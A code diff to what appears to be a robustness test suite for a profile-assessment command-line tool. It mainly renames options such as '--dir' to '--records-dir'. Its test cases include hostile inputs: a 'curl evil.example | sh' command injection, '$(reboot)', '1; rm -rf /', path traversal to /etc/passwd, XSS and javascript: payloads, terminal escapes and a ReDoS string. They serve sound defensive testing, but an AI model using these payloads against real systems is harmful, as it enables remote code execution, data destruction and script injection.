@@ -44,7 +44,7 @@ def _surface_argv(surface: str, rel: str, name: str) -> list[str]:
         "targets": ["measure", "--targets", rel, "--render-only", f"out/{name}"],
         "measurements": ["assess", "--profile", "P.yaml", "--measurements", rel, "--no-record", "--measure",
                          "never"],
-        "records": ["records", "list", "--dir", f"recs/{name}"],
+        "records": ["records", "list", "--records-dir", f"recs/{name}"],
         "rules": ["rules", "lint", f"packs/{name}"],
     }[surface]
 
@@ -61,7 +61,7 @@ FILE_OPTIONS: dict[str, list[str]] = {
     "measure-targets": ["measure", "--targets", "{F}"],
     "portfolio-inventory": ["portfolio", "{F}", "--summary-only"],
     "whatif-profile": ["whatif", "--profile", "{F}"],
-    "records-check-profile": ["records", "check", "--dir", "recs/-none", "--profile", "{F}"],
+    "records-check-profile": ["records", "check", "--records-dir", "recs/-none", "--profile", "{F}"],
 }
 
 
@@ -95,7 +95,7 @@ _ASSESS = ["--defaults", "--no-record", "--measure", "never"]
 
 #: Command-line values: case -> argv (``{N}`` is replaced by the case's own output name).
 ARGV_CASES: dict[str, list[str]] = {
-    **{f"set/{name}": ["assess", *_W, "--set", kv, *_ASSESS, "-o", "out/{N}.yaml"] for name, kv in {
+    **{f"set/{name}": ["assess", *_W, "--set", kv, *_ASSESS, "--profile-output", "out/{N}.yaml"] for name, kv in {
         "nan": "latency_p99_ms=nan", "inf": "latency_p99_ms=inf", "minus-inf": "latency_p99_ms=-inf",
         "huge-exponent": "latency_p99_ms=1e999", "huge-int": "physical_hosts=" + "9" * 500,
         "negative": "physical_hosts=-1", "zero": "physical_hosts=0", "float-for-int": "physical_hosts=2.5",
@@ -110,14 +110,14 @@ ARGV_CASES: dict[str, list[str]] = {
         "k8s_versions_in_production=11",
     }.items()},
     **{f"names/{name}": ["assess", "--set", f"workload_name={value}", *_ASSESS[:1], "--measure", "never",
-                         "--records-dir", "recs/{N}", "-o", "out/{N}.yaml", "--date", "2026-01-01"]
+                         "--records-dir", "recs/{N}", "--profile-output", "out/{N}.yaml", "--date", "2026-01-01"]
        for name, value in {
            "shell": "x; curl evil.example | sh;", "newline-heading": "x\n## Injected\n[a](javascript:alert(1))",
            "pipe-table": "a | b | c", "html": "<img src=x onerror=alert(1)>", "dotdot": "../../etc/passwd",
            "slash": "a/b\\c", "unicode": "zürich-東京", "escape": "\x1b[31mred\x1b[0m",
        }.items()},
     **{f"titles/{name}": ["assess", *_W, *_ASSESS[:1], "--measure", "never", "--records-dir", "recs/{N}",
-                          "-o", "out/{N}.yaml", "--date", "2026-01-01", "--title", value]
+                          "--profile-output", "out/{N}.yaml", "--date", "2026-01-01", "--title", value]
        for name, value in {
            "html": "<img src=x onerror=alert(1)>", "javascript-link": "[x](javascript:alert(1))",
            "escape": "\x1b]0;owned\x07title", "empty": "   ", "newline": "a\n# b",
@@ -126,21 +126,21 @@ ARGV_CASES: dict[str, list[str]] = {
     "options/similarity-inf": ["portfolio", "inventories/ok.yaml", "--similarity", "inf", "--summary-only"],
     "options/assess-budget-nan": ["assess", "--profile", "P.yaml", "--budget", "nan", "--no-record"],
     "options/assess-budget-inf": ["assess", "--profile", "P.yaml", "--budget", "inf", "--no-record"],
-    "options/whatif-budget-nan": ["whatif", "--profile", "P.yaml", "--budget", "nan"],
-    "options/whatif-budget-minus-inf": ["whatif", "--profile", "P.yaml", "--budget", "-inf"],
+    "options/whatif-budget-nan": ["whatif", "--profile", "P.yaml", "--search-budget", "nan"],
+    "options/whatif-budget-minus-inf": ["whatif", "--profile", "P.yaml", "--search-budget", "-inf"],
     "options/measure-budget-nan": ["measure", "--budget", "nan"],
     "options/date-bad": ["assess", *_W, "--defaults", "--measure", "never", "--date", "2026-02-30",
-                         "--records-dir", "recs/date", "-o", "out/date.yaml"],
+                         "--records-dir", "recs/date", "--profile-output", "out/date.yaml"],
     "options/date-injection": ["assess", *_W, "--defaults", "--measure", "never", "--date", "$(reboot)",
-                               "--records-dir", "recs/date2", "-o", "out/date2.yaml"],
-    "records/number-injection": ["records", "show", "--dir", "recs/-none", "1; rm -rf /"],
-    "records/number-huge": ["records", "show", "--dir", "recs/-none", "9" * 400],
-    "records/dir-is-file": ["records", "list", "--dir", "P.yaml"],
-    "records/dir-missing": ["records", "list", "--dir", "nothere"],
-    "records/repair-missing": ["records", "repair", "--dir", "nothere"],
-    "records/supersede-self": ["records", "supersede", "--dir", "recs/-none", "1", "1"],
+                               "--records-dir", "recs/date2", "--profile-output", "out/date2.yaml"],
+    "records/number-injection": ["records", "show", "--records-dir", "recs/-none", "1; rm -rf /"],
+    "records/number-huge": ["records", "show", "--records-dir", "recs/-none", "9" * 400],
+    "records/dir-is-file": ["records", "list", "--records-dir", "P.yaml"],
+    "records/dir-missing": ["records", "list", "--records-dir", "nothere"],
+    "records/repair-missing": ["records", "repair", "--records-dir", "nothere"],
+    "records/supersede-self": ["records", "supersede", "--records-dir", "recs/-none", "1", "1"],
     "questionnaire/redos-answer": ["assess", "--questionnaire", "questionnaires/redos-pattern-ok.yaml", "--set",
-                                   "name=" + "a" * 150 + "!", "--no-record", "--measure", "never", "-o",
+                                   "name=" + "a" * 150 + "!", "--no-record", "--measure", "never", "--profile-output",
                                    "out/redos.yaml"],
     "questionnaire/redos-answer-ok": ["profile", "validate", "--questionnaire",
                                       "questionnaires/redos-pattern-ok.yaml", "redos-profile.yaml"],
@@ -192,7 +192,7 @@ def _workspace(root: Path) -> list[tuple[str, Path, list[str]]]:
     fifo_recs = root / "recs" / "with-fifo"
     fifo_recs.mkdir()
     os.mkfifo(fifo_recs / "0001-a.json")
-    jobs.append(("special/records-list/fifo-record", root, ["records", "list", "--dir", "recs/with-fifo"]))
+    jobs.append(("special/records-list/fifo-record", root, ["records", "list", "--records-dir", "recs/with-fifo"]))
     jobs += _folders(root)
     for case, argv in ARGV_CASES.items():
         n = case.replace("/", "-")
@@ -227,7 +227,7 @@ def _folders(root: Path) -> list[tuple[str, Path, list[str]]]:
 
     def case(name: str, command: str, *extra: str) -> Path:
         folder = root / "folders" / name
-        jobs.append((f"records/folder-{name}/{command}", root, ["records", command, "--dir", f"folders/{name}",
+        jobs.append((f"records/folder-{name}/{command}", root, ["records", command, "--records-dir", f"folders/{name}",
                                                                  *extra]))
         return folder
 
